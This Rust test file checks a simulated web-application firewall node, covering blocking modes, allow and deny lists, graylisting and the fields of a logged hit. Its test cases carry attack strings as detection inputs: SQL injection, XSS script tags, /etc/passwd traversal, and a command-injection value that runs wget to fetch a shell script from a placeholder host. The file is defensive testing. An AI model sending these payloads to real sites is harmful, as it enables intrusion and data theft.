//! The node as workers meet it: through the internet, with its faults and its trace.

use std::{sync::Arc, time::Duration};

use base64::{Engine, engine::general_purpose::STANDARD};
use edgeproof_deployment::NODE_HOST;
use edgeproof_ground::{
    body,
    trace::{Party, Trace},
};
use edgeproof_internet::{Destination, Internet, Peer, Unreachable};
use http::{Request, StatusCode};
use http_body_util::BodyExt;
use rstest::rstest;

use super::*;

const ANN: &str = "203.0.113.7";
const ATTACK: &str = "/?id=1'%20or%201=1--";

struct World {
    node: WallarmNode,
    clock: edgeproof_ground::clock::Clock,
    internet: Internet,
    trace: Trace,
}

fn world(yaml: &str) -> World {
    let mut settings: NodeSettings = serde_saphyr::from_str(yaml).unwrap();
    let clock = edgeproof_ground::clock::Clock::default();
    settings.clock = clock.clone();
    let node = WallarmNode::new(settings);
    let trace = Trace::new();
    let internet = Internet::new(trace.clone());
    let peer = Peer {
        name: "wallarm".to_owned(),
        party: Party::Wallarm,
        destination: Destination::Handler(Arc::new(node.clone())),
    };
    internet.connect(NODE_HOST, peer);
    World {
        node,
        clock,
        internet,
        trace,
    }
}

impl World {
    async fn send(&self, request: Request<body::Body>) -> StatusCode {
        self.internet
            .send(request, Party::Worker)
            .await
            .unwrap()
            .status()
    }

    async fn get(&self, path_and_query: &str) -> StatusCode {
        self.send(get(path_and_query, ANN)).await
    }

    fn kinds(&self) -> Vec<&'static str> {
        self.node
            .attacks()
            .iter()
            .map(|attack| attack.attack.code())
            .collect()
    }

    fn decision(&self) -> String {
        self.trace
            .exchanges()
            .last()
            .and_then(|exchange| exchange.decision.clone())
            .unwrap()
    }
}

fn get(path_and_query: &str, ip: &str) -> Request<body::Body> {
    Request::get(format!("https://{NODE_HOST}{path_and_query}"))
        .header("x-forwarded-host", "shop.example")
        .header("cf-connecting-ip", ip)
        .header("cf-ipcountry", "DE")
        .body(body::empty())
        .unwrap()
}

/// The requests that the vendor's pages test an installation with.
#[rstest]
#[case("/etc/passwd", &["ptrav"])]
#[case("/instructions.php/etc/passwd", &["ptrav"])]
#[case("/?id='or+1=1--a-<script>prompt(1)</script>'", &["sqli", "xss"])]
#[case("/?id=1'%20UNION%20SELECT%20username,%20password%20FROM%20users--<script>prompt(1)</script>", &["sqli", "xss"])]
#[case("/?id=1'%20select%20version();", &["sqli"])]
#[case("/?23036d6ba7=%3Bwget+http%3A%2F%2Fsome_host%2Fsh311.sh", &["rce"])]
#[case("/?x='+OR+1=1", &["sqli"])]
#[case("/?id=1'%20UNION%20SELECT", &[])]
#[tokio::test]
async fn the_documented_test_requests_get_the_documented_verdict(
    #[case] path: &str,
    #[case] kinds: &[&str],
) {
    // `<` and `>` must be escaped for the `Uri` type; a visitor's client does so too.
    let path = path.replace('<', "%3C").replace('>', "%3E");
    let world = world("{mode: block}");
    let status = world.get(&path).await;
    assert_eq!(status == StatusCode::FORBIDDEN, !kinds.is_empty());
    let mut found = world.kinds();
    found.sort_unstable();
    assert_eq!(found, kinds);
}

#[rstest]
#[case(Mode::Off, 200, 0)]
#[case(Mode::Monitoring, 200, 1)]
#[case(Mode::SafeBlocking, 200, 1)]
#[case(Mode::Block, 403, 1)]
#[tokio::test]
async fn the_mode_decides_what_becomes_of_an_attack(
    #[case] mode: Mode,
    #[case] status: u16,
    #[case] attacks: usize,
) {
    let world = world(&format!("{{mode: {mode}}}"));
    assert_eq!(world.get(ATTACK).await, status);
    assert_eq!(world.node.attacks().len(), attacks);
    assert_eq!(world.get("/?id=1").await, 200);
    assert_eq!(world.node.attacks().len(), attacks);
}

#[tokio::test]
async fn a_blocked_request_gets_the_page_of_nginx_and_a_passed_one_nothing() {
    let world = world("{mode: block}");
    let response = world
        .internet
        .send(get(ATTACK, ANN), Party::Worker)
        .await
        .unwrap();
    let page = response.into_body().collect().await.unwrap().to_bytes();
    assert!(page.starts_with(b"<html>\r\n<head><title>403 Forbidden"));
    let response = world
        .internet
        .send(get("/", ANN), Party::Worker)
        .await
        .unwrap();
    assert!(
        response
            .into_body()
            .collect()
            .await
            .unwrap()
            .to_bytes()
            .is_empty()
    );
}

#[tokio::test]
async fn the_trace_says_what_was_decided_and_why() {
    let world = world("{mode: block}");
    world.get(ATTACK).await;
    assert_eq!(
        world.decision(),
        "blocked in mode block: an attack; sqli at query.id (tautology)"
    );
    world.get("/?id=1").await;
    assert_eq!(world.decision(), "passed in mode block: no attack");
}

#[tokio::test]
async fn lists_go_before_the_analysis() {
    let world = world("{mode: block, allowlist: [198.51.100.0/24], denylist: [192.0.2.1]}");
    assert_eq!(world.send(get(ATTACK, "198.51.100.9")).await, 200);
    assert!(world.node.attacks().is_empty());
    assert_eq!(world.send(get("/", "192.0.2.1")).await, 403);
    assert_eq!(world.kinds(), ["blocked_source"]);
}

#[tokio::test]
async fn an_address_with_four_payloads_goes_on_the_graylist_for_an_hour() {
    let world = world("{mode: safe_blocking}");
    // The vendor's own test: three requests with four payloads.
    assert_eq!(
        world
            .get("/?id='or+1=1--a-%3Cscript%3Eprompt(1)%3C/script%3E'")
            .await,
        200
    );
    assert_eq!(world.get("/?id=1'%20select%20version();").await, 200);
    assert_eq!(world.get("/instructions.php/etc/passwd").await, 200);
    assert_eq!(world.get(ATTACK).await, 403);
    assert_eq!(world.get("/").await, 200, "harmless requests pass");
    assert_eq!(
        world.send(get(ATTACK, "203.0.113.8")).await,
        200,
        "another address is not on it"
    );
    world.clock.advance(Duration::from_secs(3601));
    assert_eq!(world.get(ATTACK).await, 200);
}

#[tokio::test]
async fn a_list_entry_ends_with_its_time() {
    let world = world("{mode: monitoring, denylist: [{address: 203.0.113.7, for: 5m}]}");
    assert_eq!(world.get("/").await, 403);
    world.clock.advance(Duration::from_secs(300));
    assert_eq!(world.get("/").await, 200);
}

#[tokio::test]
async fn the_mode_and_the_lists_change_while_it_runs() {
    let world = world("{mode: monitoring}");
    assert_eq!(world.get(ATTACK).await, 200);
    world
        .node
        .change(serde_saphyr::from_str("{mode: block}").unwrap());
    assert_eq!(world.get(ATTACK).await, 403);
    world
        .node
        .change(serde_saphyr::from_str("{allowlist: [203.0.113.7]}").unwrap());
    assert_eq!(world.node.mode(), Mode::Block);
    assert_eq!(world.get(ATTACK).await, 200);
}

#[tokio::test]
async fn other_hosts_are_refused_without_a_look() {
    let world = world("{mode: block, hosts: ['*.shop.example']}");
    assert_eq!(world.get(ATTACK).await, 415);
    assert!(world.node.attacks().is_empty());
    let request = Request::post(format!("https://{NODE_HOST}/"))
        .header("x-forwarded-host", "www.shop.example")
        .body(body::full("1234"))
        .unwrap();
    assert_eq!(world.send(request).await, 200);
}

#[rstest]
#[case(false, 200)]
#[case(true, 403)]
#[tokio::test]
async fn a_request_that_takes_too_much_passes_unless_it_is_set_otherwise(
    #[case] is_attack: bool,
    #[case] status: u16,
) {
    let world = world(&format!(
        "{{mode: block, overlimit_is_attack: {is_attack}}}"
    ));
    // More encodings inside of one another than are opened.
    let nested = (0..12).fold("harmless".to_owned(), |text, _| STANDARD.encode(text));
    let request = Request::post(format!("https://{NODE_HOST}/"))
        .body(body::full(nested))
        .unwrap();
    assert_eq!(world.send(request).await, status);
    assert_eq!(world.kinds(), ["overlimit_res"]);
}

#[tokio::test]
async fn the_body_arrives_byte_for_byte() {
    let world = world("{}");
    let bytes: Vec<u8> = (0..100_000_u32)
        .map(|index| (index.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    let hash = blake3::hash(&bytes).to_hex().to_string();
    let request = Request::post(format!("https://{NODE_HOST}/up"))
        .body(body::full(bytes))
        .unwrap();
    world.send(request).await;
    let seen = world.node.requests();
    assert_eq!(
        (
            seen[0].body.length,
            seen[0].body.complete,
            seen[0].body.hash()
        ),
        (100_000, true, hash)
    );
}

#[tokio::test]
async fn a_hit_has_the_fields_of_the_console() {
    let world = world("{mode: block}");
    world.get("/shop/item?id=1'%20or%201=1--").await;
    let attacks = serde_json::to_value(world.node.attacks()).unwrap();
    let hit = &attacks[0]["kept"][0];
    let fields = [
        "type",
        "ip",
        "remote_country",
        "method",
        "domain",
        "path",
        "statuscode",
        "blocked",
        "application",
    ];
    let values: Vec<String> = fields.iter().map(|field| hit[*field].to_string()).collect();
    assert_eq!(
        values,
        [
            "\"sqli\"",
            "\"203.0.113.7\"",
            "\"DE\"",
            "\"GET\"",
            "\"shop.example\"",
            "\"/shop/item\"",
            "403",
            "true",
            "-1"
        ]
    );
    assert_eq!(hit["point"].to_string(), r#"["query","id"]"#);
    assert_eq!(hit["request_id"].as_str().map(str::len), Some(32));
    assert_eq!(attacks[0]["status"], "blocked");
}

#[tokio::test]
async fn an_attack_is_told_in_a_line_that_cannot_move_a_cursor() {
    let world = world("{mode: block}");
    world.get("/a%1b?id=1'%20or%201=1--").await;
    world.get("/a%1b?id=2'%20or%201=1--").await;
    let attacks = world.node.attacks();
    let mut attack = attacks[0].clone();
    (attack.last, attack.path) = (0, "/a\u{1b}[2J".to_owned());
    assert_eq!(
        attack.to_string(),
        "sqli at query.id of shop.example/a\u{fffd}[2J: blocked, 2 hits with 2 payloads, \
         latest 1970-01-01 00:00:00 from 203.0.113.7"
    );
}

#[tokio::test]
async fn faults_happen_on_the_way_to_the_node() {
    let world = world("{}");
    let fault = |yaml: &str| vec![serde_saphyr::from_str(yaml).unwrap()];
    world
        .internet
        .set_faults(fault("{on: wallarm, fault: refuse}"))
        .unwrap();
    let response = world.internet.send(get("/", ANN), Party::Worker).await;
    assert!(matches!(response, Err(Unreachable::Refused)));
    world
        .internet
        .set_faults(fault("{on: wallarm, fault: {answer: {status: 502}}}"))
        .unwrap();
    assert_eq!(world.get("/").await, 502);
    assert!(world.node.requests().is_empty());
}

#[tokio::test]
async fn what_arrives_later_is_waited_for() {
    let world = world("{}");
    let node = world.node.clone();
    let waiting = tokio::spawn(async move { node.until(|node| node.requests().len() == 2).await });
    world.get("/").await;
    world.get("/").await;
    waiting.await.unwrap();
}
